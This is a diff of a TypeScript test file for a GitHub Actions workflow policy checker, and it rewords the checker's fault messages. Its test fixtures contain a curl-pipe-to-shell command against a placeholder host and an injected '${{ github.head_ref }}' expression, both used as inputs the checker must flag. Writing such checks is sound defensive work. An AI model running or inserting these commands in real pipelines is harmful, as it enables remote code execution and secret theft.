@@ -17,10 +17,10 @@ function faultsOf(text: string): string[] {
   const workflow: Workflow = parse(text);
   const faults: string[] = [];
   if (JSON.stringify(workflow.permissions) !== '{}') faults.push('the workflow itself has permissions');
-  if ('pull_request_target' in workflow.on) faults.push('code of a fork would run with our secrets');
+  if ('pull_request_target' in workflow.on) faults.push('the code of a fork would run with secrets');
   for (const [name, job] of Object.entries(workflow.jobs)) {
-    if (!job.permissions) faults.push(`${name} says no permissions`);
-    if (!job['timeout-minutes']) faults.push(`${name} may run for ever`);
+    if (!job.permissions) faults.push(`${name} has no permissions`);
+    if (!job['timeout-minutes']) faults.push(`${name} has no timeout`);
     for (const { uses, run, with: given } of job.steps) {
       if (uses?.startsWith('actions/checkout@') && given?.['persist-credentials'] !== false)
         faults.push(`${name} leaves its token in .git`);
@@ -39,7 +39,7 @@ function faultsOfCommand(run: string): string[] {
   const [program, ...words] = run.split(' ');
   if (program === 'tar' || run === 'npm ci') return injected;
   const script = words.find((word) => !word.startsWith('-') && word !== 'run') ?? '';
-  return program === 'npm' && script in SCRIPTS ? injected : [...injected, `${run} is no script of package.json`];
+  return program === 'npm' && script in SCRIPTS ? injected : [...injected, `${run} is not a script of package.json`];
 }
 
 const workflows = readdirSync(FOLDER).map((file): [string, string] => [file, readFileSync(path.join(FOLDER, file), 'utf8')]);
@@ -67,13 +67,13 @@ test('finds each policy violation of a workflow', () => {
     return faultsOf(good.replace(from, to)).join('\n');
   };
   assert.match(faultsAfter('permissions: {}', 'permissions: { contents: write }'), /the workflow itself/);
-  assert.match(faultsAfter('    permissions: { contents: read }\n', ''), /says no permissions/);
-  assert.match(faultsAfter('    timeout-minutes: 20\n', ''), /for ever/);
+  assert.match(faultsAfter('    permissions: { contents: read }\n', ''), /has no permissions/);
+  assert.match(faultsAfter('    timeout-minutes: 20\n', ''), /no timeout/);
   assert.match(faultsAfter('workflow_dispatch:', 'pull_request_target:'), /fork/);
   assert.match(faultsAfter('persist-credentials: false', 'persist-credentials: true'), /token/);
   assert.match(faultsAfter(/@[0-9a-f]{40} # v4.2.2/, '@v4'), /not pinned/);
-  assert.match(faultsAfter('npm run check:audit', 'npm run check:nothing'), /no script/);
-  assert.match(faultsAfter('npm run check:audit', 'curl https://a.example | sh'), /no script/);
+  assert.match(faultsAfter('npm run check:audit', 'npm run check:nothing'), /not a script/);
+  assert.match(faultsAfter('npm run check:audit', 'curl https://a.example | sh'), /not a script/);
   // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of the workflow
   assert.match(faultsAfter('npm run check:audit', 'npm run check:audit -- ${{ github.head_ref }}'), /an expression/);
 });
